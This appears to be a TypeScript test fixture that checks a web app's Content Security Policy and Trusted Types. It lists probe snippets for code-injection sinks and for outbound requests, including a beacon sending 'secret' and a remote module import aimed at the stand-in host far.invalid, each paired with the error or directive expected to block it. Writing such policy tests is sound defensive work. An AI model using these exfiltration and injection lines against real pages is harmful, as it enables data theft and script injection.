// Every way out of a page or a worker, and every way for text to become code, as a program tries it that got in somehow:
// what it does, and what has to become of it under our policy. Knows nothing of how the policy is served.

/** The code of one try. */
type Try = string

/** In place of a server that is not ours: `.invalid` never resolves (RFC 2606), so whatever gets out is a request to it. */
const FAR = 'https://far.invalid'

const element = (tag: string, properties: string, put = true) =>
  `const e = Object.assign(document.createElement('${tag}'), ${properties}); ${put ? 'document.body.append(e)' : ''}`

/** Text that would become code: each is refused by an error of this name. */
export const SINKS: Record<string, [code: Try, error: string]> = {
  eval: [`(0, eval)('1')`, 'EvalError'],
  'a function from text': [`new Function('return 1')()`, 'EvalError'],
  'a timer from text': [`setTimeout('1')`, 'TypeError'],
  'HTML in an element': [`document.body.innerHTML = '<b>x</b>'`, 'TypeError'],
  'HTML in place of an element': [`document.body.firstElementChild.outerHTML = '<b>x</b>'`, 'TypeError'],
  'HTML beside an element': [`document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`, 'TypeError'],
  'HTML without a filter': [`document.body.setHTMLUnsafe('<b>x</b>')`, 'TypeError'],
  'HTML in a range': [`document.createRange().createContextualFragment('<b>x</b>')`, 'TypeError'],
  'HTML in the document': [`document.write('<b>x</b>')`, 'TypeError'],
  'a document from text': [`new DOMParser().parseFromString('<b>x</b>', 'text/html')`, 'TypeError'],
  'a page in a frame': [`document.createElement('iframe').srcdoc = '<b>x</b>'`, 'TypeError'],
  'a script from text': [`document.createElement('script').textContent = '1'`, 'TypeError'],
  'a script by its address': [`document.createElement('script').src = './assets/probe.js'`, 'TypeError'],
  'an inline handler': [`document.createElement('b').setAttribute('onclick', '1')`, 'TypeError'],
  'a worker by plain address': [`new Worker('./assets/probe.js')`, 'TypeError'],
  'a shared worker by plain address': [`new SharedWorker('./assets/probe.js')`, 'TypeError'],
  'a service worker by plain address': [`await navigator.serviceWorker.register('./other.js')`, 'TypeError'],
  'a policy of its own': [`trustedTypes.createPolicy('mine', {})`, 'TypeError'],
  'our policy once more': [`trustedTypes.createPolicy('app-worker', {})`, 'TypeError'],
}

/** What would be fetched from elsewhere: each is refused by this directive. */
export const FETCHES: Record<string, [code: Try, directive: string]> = {
  'a picture': [`new Image().src = '${FAR}/x.png'`, 'img-src'],
  'a film': [element('video', `{ src: '${FAR}/x.webm' }`), 'media-src'],
  'a frame': [element('iframe', `{ src: '${FAR}/' }`), 'frame-src'],
  'an object': [element('object', `{ data: '${FAR}/x.svg', type: 'image/svg+xml' }`), 'object-src'],
  'an embedded page': [element('embed', `{ src: '${FAR}/x.svg', type: 'image/svg+xml' }`), 'object-src'],
  'a style sheet': [element('link', `{ rel: 'stylesheet', href: '${FAR}/x.css' }`), 'style-src-elem'],
  'styles from text': [element('style', `{ textContent: 'b { color: red }' }`), 'style-src-elem'],
  'a style attribute': [`document.body.setAttribute('style', 'color: red')`, 'style-src-attr'],
  'a font': [`await new FontFace('x', 'url(${FAR}/x.woff2)').load().catch(() => undefined)`, 'font-src'],
  'a module': [`await import('${FAR}/x.js').catch(() => undefined)`, 'script-src-elem'],
  'something fetched ahead': [element('link', `{ rel: 'prefetch', href: '${FAR}/x' }`), 'default-src'],
  'an icon': [element('link', `{ rel: 'icon', href: '${FAR}/x.ico' }`), 'img-src'],
  'a form': [
    `${element('form', `{ action: '${FAR}/', method: 'post', target: 'x' }`)}; e.requestSubmit()`,
    'form-action',
  ],
  'another base': [
    `document.head.append(Object.assign(document.createElement('base'), { href: '${FAR}/' }))`,
    'base-uri',
  ],
}

/** What would be sent: refused by `connect-src`, over a connection that nobody was given. */
export const sends = (far: string): Record<string, Try> => ({
  fetch: `await fetch('${far}/x').catch(() => undefined)`,
  'an older request': `const r = new XMLHttpRequest(); r.open('GET', '${far}/x'); r.onerror = () => undefined; r.send()`,
  'a stream of events': `new EventSource('${far}/x').onerror = ({ target }) => target.close()`,
  'a socket': `try { new WebSocket('${far.replace(/^http/, 'ws')}/x') } catch { /* refused at once */ }`,
})
export const SENDS_OF_PAGES = (far: string): Record<string, Try> => ({
  ...sends(far),
  'a beacon': `navigator.sendBeacon('${far}/x', 'secret')`,
  'a ping': `const a = Object.assign(document.createElement('a'), { href: '#', ping: '${far}/x' }); document.body.append(a); a.click()`,
})

/** Of a worker: what of the above it can try. */
export const WORKER_SINKS: Record<string, [code: Try, error: string]> = {
  eval: [`(0, eval)('1')`, 'EvalError'],
  'a function from text': [`new Function('return 1')()`, 'EvalError'],
  'a timer from text': [`setTimeout('1')`, 'TypeError'],
  'a worker by plain address': [`new Worker('./probe.js')`, 'TypeError'],
  'a worker from elsewhere': [`new Worker('${FAR}/worker.js')`, 'TypeError'],
  'a policy of its own': [`trustedTypes.createPolicy('mine', {})`, 'TypeError'],
  'a script from elsewhere': [`await import('${FAR}/x.js')`, 'TypeError'],
}

/** A module's text that makes all of these tries, one after the other: name to the error's name or the directive. */
export function programOf(tries: Record<string, Try>): string {
  const functions = Object.entries(tries).map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
  return `
    const tries = { ${functions.join(',\n')} };
    async function outcomes() {
      const found = {};
      for (const [name, run] of Object.entries(tries)) {
        const told = new Promise((done) =>
          addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true }));
        const late = new Promise((done) => setTimeout(done, 3000, 'nothing stopped it'));
        found[name] = await run().then(() => Promise.race([told, late]), (error) => error.name);
      }
      return found;
    }`
}
